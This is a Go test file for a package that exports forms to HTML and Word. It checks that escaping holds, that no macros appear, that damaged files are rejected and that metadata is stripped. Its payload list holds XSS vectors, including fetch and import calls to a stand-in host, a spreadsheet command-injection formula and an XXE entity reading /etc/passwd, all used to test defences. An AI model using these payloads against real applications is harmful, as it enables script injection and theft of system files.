package paper

import (
	"archive/zip"
	"bytes"
	"encoding/xml"
	"errors"
	"io"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// sample has every kind of block, with a text in every place where one can be.
func sample(text string) Paper {
	return Paper{Title: "Title " + text, Marks: Marks{Code: "Case A7", Board: text, Edition: text, Review: text, Marking: text, Made: text, Across: text}, Blocks: []Block{
		{Kind: Heading, Level: 2, Text: text}, {Kind: Text, Text: text},
		{Kind: Field, Label: text, Text: text}, {Kind: Field, Label: "blank", Text: ""},
		{Kind: NewPage}, {Kind: Heading, Level: 3, Text: "h " + text},
		{Kind: Table, Label: text, Entries: true, Head: []string{"No.", text}, Wide: []int{1, 9}, Rows: []Row{{Cells: []string{"1", text}}, {Cells: []string{text, ""}, Struck: true}}},
		{Kind: Signature, Label: text, Fields: []Block{{Kind: Field, Label: text}, {Kind: Field, Label: "Date:"}}},
		{Kind: Text, Text: text + "\n" + text},
	}}
}

// payloads are texts that would run, load or break something if they were not made harmless.
func payloads() []string {
	var all []string
	for _, script := range []string{"alert(1)", "document.title='x'", "fetch('//e.example')", "self.location='//e.example'", "import('//e.example')"} {
		all = append(all, "<script>"+script+"</script>", "<img src=x onerror="+script+">", "<svg/onload="+script+">", `"><script>`+script+"</script>",
			"' onmouseover='"+script, "javascript:"+script, "<iframe srcdoc='<script>"+script+"</script>'>", "</w:t></w:r><w:r><w:t>"+script, "</td><td><b onclick="+script+">",
			"<a href=\"javascript:"+script+"\">x</a>", "</style><script>"+script+"</script>", "<!--><script>"+script+"</script>")
	}
	return append(all, "]]><x/>", "&lt;script&gt;", "&amp;&#39;&quot;", "a & b < c > d \" e '", "=cmd|' /C calc'!A0", "</title></head>", `\`+`"} body{background:url(//e.example)}`,
		"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;", "\u202Egnp.exe", "\x00\x0b\x1f null", "line\r\nother\rthird\ttab", "\uFFFE\uFFFF", "\xff\xfe not text", "- row\n---\n[struck out] x", "Heading\n-------", "    set in", "😀 \u2028 \u0085")
}

// What is typed is read back as it was typed, in every format and every place, and no more tags
// come out than a harmless text makes.
func TestNothingTypedGetsOut(t *testing.T) {
	texts := payloads()
	if len(texts) < 60 {
		t.Fatalf("%d payloads, want 60", len(texts))
	}
	plainHTML, _, err := Write(sample("harmless"), HTML)
	if err != nil {
		t.Fatal(err)
	}
	for _, text := range texts {
		for _, f := range Formats {
			file, figures, err := Write(sample(text), f)
			if err != nil {
				t.Errorf("%q in %s: %v", text, f.Extension(), err)
				continue
			}
			if want := (Figures{Entries: 2, Fields: 2, Signatures: 1, Texts: 4}); figures != want {
				t.Errorf("%q in %s: %+v, want %+v", text, f.Extension(), figures, want)
			}
			switch f {
			case HTML:
				if got, want := tags(t, file), tags(t, plainHTML); strings.ReplaceAll(got, "br ", "") != strings.ReplaceAll(want, "br ", "") {
					t.Errorf("%q makes other tags:\n%s\nwant\n%s", text, got, want)
				}
			case Word:
				soundXML(t, file)
			}
		}
	}
}

// tags are the names of all tags and attributes, as golang.org/x/net/html reads the file.
func tags(t *testing.T, file []byte) string {
	var out strings.Builder
	z := html.NewTokenizer(bytes.NewReader(file))
	for {
		switch z.Next() {
		case html.ErrorToken:
			if z.Err() != io.EOF {
				t.Error(z.Err())
			}
			return out.String()
		case html.StartTagToken, html.SelfClosingTagToken:
			tok := z.Token()
			out.WriteString(tok.Data + " ")
			for _, a := range tok.Attr {
				out.WriteString("@" + a.Key + " ")
			}
		case html.CommentToken:
			t.Error("a comment in the file")
		}
	}
}

// soundXML reads every part with the standard library: another zip reader, another parser.
func soundXML(t *testing.T, file []byte) {
	z, err := zip.NewReader(bytes.NewReader(file), int64(len(file)))
	if err != nil {
		t.Fatal(err)
	}
	for _, part := range z.File {
		if strings.Contains(part.Name, "vba") {
			t.Error("a macro: ", part.Name)
		}
		r, err := part.Open()
		if err != nil {
			t.Fatal(err)
		}
		for d := xml.NewDecoder(r); ; {
			if _, err := d.Token(); err == io.EOF {
				break
			} else if err != nil {
				t.Fatalf("%s: %v", part.Name, err)
			}
		}
	}
}

// A file that is not whole, or says something else, is not the same.
func TestADamagedFileIsNotTheSame(t *testing.T) {
	p := sample("The adult said “no”.")
	for _, f := range Formats {
		file, _, err := Write(p, f)
		if err != nil {
			t.Fatal(err)
		}
		for n := 0; n < len(file); n += 97 {
			if Check(p, f, file[:n]) == nil {
				t.Errorf("%s cut to %d bytes passes", f.Extension(), n)
			}
		}
		for _, change := range [][2]string{{"said", "sa1d"}, {"blank", "blink"}, {"Case A7", "Case A8"}} {
			if other := bytes.Replace(file, []byte(change[0]), []byte(change[1]), 1); Check(p, f, other) == nil {
				t.Errorf("%s with %q for %q passes", f.Extension(), change[1], change[0])
			}
		}
		for i, b := range p.Blocks {
			less := p
			less.Blocks = append(append([]Block{}, p.Blocks[:i]...), p.Blocks[i+1:]...)
			if b.Kind != NewPage && !errors.Is(Check(less, f, file), ErrNotSame) {
				t.Errorf("%s with a block too many (%d) passes", f.Extension(), i)
			}
		}
	}
}

func TestClean(t *testing.T) {
	for _, c := range [][2]string{
		{"a\r\nb\rc", "a\nb\nc"}, {"a\tb", "a b"}, {"\x00x\x1b", "\uFFFDx\uFFFD"}, {"\u202Eabc\u2066", "\uFFFDabc\uFFFD"},
		{"שלום \u200F مرحبا", "שלום \u200F مرحبا"}, {"\xff", "\uFFFD"}, {"é 😀", "é 😀"}, {"a\u2028b", "a\nb"},
	} {
		if got := Clean(c[0]); got != c[1] {
			t.Errorf("Clean(%q) = %q, want %q", c[0], got, c[1])
		}
		if again := Clean(c[1]); again != c[1] {
			t.Errorf("cleaning %q twice gives %q", c[1], again)
		}
	}
}

func TestTheWordFileNamesNobody(t *testing.T) {
	file, _, err := Write(sample("x"), Word)
	if err != nil {
		t.Fatal(err)
	}
	parts, err := readZip(file)
	if err != nil {
		t.Fatal(err)
	}
	core := parts["docProps/core.xml"]
	if !strings.Contains(core, "<dc:creator></dc:creator>") || strings.Contains(core, "dcterms") || strings.Contains(core, "lastModifiedBy") {
		t.Error("the file says who made it or when: ", core)
	}
	for _, want := range []string{`<w:tblHeader/>`, `<w:pStyle w:val="Heading2"/>`} {
		if !strings.Contains(parts[wordMain], want) {
			t.Error("missing from the document: ", want)
		}
	}
	if !strings.Contains(parts["word/styles.xml"], `<w:lang w:val="en-GB"`) || !strings.Contains(parts[wordFoot], `w:instr="NUMPAGES"`) {
		t.Error("no language or no page numbers")
	}
}

func FuzzReaders(f *testing.F) {
	for _, format := range Formats {
		file, _, err := Write(sample("x"), format)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(file)
	}
	p := sample("x")
	f.Fuzz(func(t *testing.T, file []byte) {
		for _, format := range Formats {
			Check(p, format, file) // must come back
		}
	})
}
